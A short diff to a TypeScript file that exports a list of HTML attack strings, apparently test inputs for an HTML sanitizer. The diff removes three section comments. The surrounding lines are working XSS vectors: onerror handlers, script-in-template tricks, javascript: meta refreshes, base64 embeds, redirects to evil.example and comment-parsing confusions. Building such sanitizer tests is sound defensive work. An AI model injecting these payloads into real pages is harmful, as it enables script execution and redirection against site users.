@@ -34,7 +34,6 @@ export const htmlAttacks: readonly string[] = [
   `<template><script>${run}</script></template>`,
   `<template shadowrootmode=open><script>${run}</script></template>`,
   `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
-  // Event handlers
   `<img src=x onerror=${run}>`,
   `<img src=x onerror="${run}">`,
   `<img/src=x/onerror=${run}>`,
@@ -139,7 +138,6 @@ export const htmlAttacks: readonly string[] = [
   `<embed src="data:text/html;base64,${encoded}">`,
   `<applet code="x" onerror=${run}></applet>`,
   `<portal src="//evil.example/"></portal>`,
-  // Elements of the head
   `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
   `<meta http-equiv=refresh content="0;url=//evil.example/">`,
   `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
@@ -155,7 +153,6 @@ export const htmlAttacks: readonly string[] = [
   `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
   `<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>`,
   `<p class="fixed inset-0" id="content" name="user" slot="x" data-x="1" hidden>x</p>`,
-  // Comments and malformed elements
   `<!--><img src=x onerror=${run}>-->`,
   `<!-- --!><img src=x onerror=${run}>-->`,
   `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
